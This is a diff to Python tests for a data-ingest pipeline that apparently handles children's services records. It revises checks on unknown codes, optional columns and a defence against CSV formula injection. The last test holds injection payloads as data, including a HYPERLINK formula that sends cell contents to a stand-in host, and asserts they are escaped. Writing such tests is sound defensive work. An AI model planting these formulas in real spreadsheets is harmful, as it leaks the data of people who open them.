@@ -132,12 +132,28 @@ def _all_rejected(tmp_path: Path, text: str, **spec) -> tuple[object, dict, str]
     return result, e, msg
 
 
-def test_every_row_with_an_unknown_code_fails_the_table_naming_the_codes_setting(tmp_path):
+def test_every_row_with_an_unknown_required_code_fails_the_table_naming_the_codes_setting(tmp_path):
+    # issue #13 item 6: only a required coded column (here initial_category) can reject a row
+    text = ("Plan ID,Child ID,Plan start date,Initial category\n"
+            "P1,C1,01/02/2024,Martians\nP2,C2,01/02/2024,Venusians\nP3,C3,01/02/2024,Martians\n")
+    result = run_ingest(_config(tmp_path, {"cp_plans": {"file": _write(tmp_path, "plans.csv", text)}}))
+    e = _entry(result, "cp_plans")
+    assert e["status"] == "failed" and _accounted(e)
+    assert e["rows_read"] == 3 and e["rejected_by_reason"] == {"unknown_code": 3}
+    msg = result.failed["cp_plans"]
+    assert "'Initial category'" in msg and "inputs.cp_plans.codes.initial_category" in msg
+
+
+def test_an_optional_column_with_no_known_code_keeps_every_row_and_names_the_settings(tmp_path):
+    # referral_source is optional: the rows are kept (field unknown), and the warning names the mapping to check
     text = ("Referral ID,Child ID,Date of referral,Source\n"
             "R1,C1,01/02/2024,Martians\nR2,C2,01/02/2024,Venusians\nR3,C3,01/02/2024,Martians\n")
-    _, e, msg = _all_rejected(tmp_path, text)
-    assert e["rows_read"] == 3 and e["rejected_by_reason"] == {"unknown_code": 3}
-    assert "'Source'" in msg and "inputs.referrals.codes.referral_source" in msg
+    result = run_ingest(_config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", text)}}))
+    assert result.ok, result.failed
+    e = _entry(result, "referrals")
+    assert (e["rows_read"], e["rows_accepted"], e["rows_rejected"], e["rows_kept_with_unknown"]) == (3, 3, 0, 3)
+    assert any("none of the values in 'Source'" in w and "inputs.referrals.columns.referral_source" in w
+               and "inputs.referrals.codes.referral_source" in w for w in e["warnings"])
 
 
 def test_every_row_with_month_first_dates_fails_the_table_naming_the_date_format(tmp_path):
@@ -173,7 +189,7 @@ def test_cli_exits_1_when_every_row_is_rejected(tmp_path):
     import subprocess
     import sys
 
-    text = "Referral ID,Child ID,Date of referral,Source\nR1,C1,01/02/2024,Martians\n"
+    text = "Referral ID,Child ID,Date of referral,Source\nR1,C1,31/02/2024,Schools\n"
     cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "ref.csv", text)}})
     project = Path(__file__).resolve().parents[1]
     proc = subprocess.run([sys.executable, str(project / "pipeline.py"), "ingest", "--config", str(cfg.path)],
@@ -206,20 +222,21 @@ def test_excel_safe_quotes_formula_text_but_not_numbers(value, written):
 
 
 def test_rejected_csv_never_carries_a_live_formula(tmp_path):
-    text = ('Referral ID,Child ID,Date of referral,=Source\n'
-            'R1,C1,01/02/2024,"=HYPERLINK(""http://x.example/?""&A1,""click"")"\n'
-            'R2,C2,-3,Schools\n'
-            'R3,C3,01/02/2024,@SUM(A1:A9)\n'
-            'R4,C4,01/02/2024,+44 20 7946 0000\n'
-            'R5,C5,01/02/2024,Schools\n')
-    cfg = _config(tmp_path, {"referrals": {"file": _write(tmp_path, "r.csv", text),
-                                           "columns": {"referral_source": "=Source"}}})
+    # a required coded column (sex): an unknown value there still rejects the row (issue #13 item 6)
+    text = ('Child ID,Date of birth,=Gender\n'
+            'C1,01/02/2014,"=HYPERLINK(""http://x.example/?""&A1,""click"")"\n'
+            'C2,-3,F\n'
+            'C3,01/02/2014,@SUM(A1:A9)\n'
+            'C4,01/02/2014,+44 20 7946 0000\n'
+            'C5,01/02/2014,M\n')
+    cfg = _config(tmp_path, {"children": {"file": _write(tmp_path, "c.csv", text),
+                                          "columns": {"sex": "=Gender"}}})
     result = run_ingest(cfg)
     assert result.ok, result.failed
     rows = _rejected_rows(result)
     by_row = {int(r["row_number"]): r for r in rows}
     assert by_row[2]["value"] == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
-    assert by_row[2]["column"] == "'=Source"
+    assert by_row[2]["column"] == "'=Gender"
     assert by_row[3]["value"] == "-3"                      # a plain negative number is left as it is
     assert by_row[4]["value"] == "'@SUM(A1:A9)"
     assert by_row[5]["value"] == "'+44 20 7946 0000"
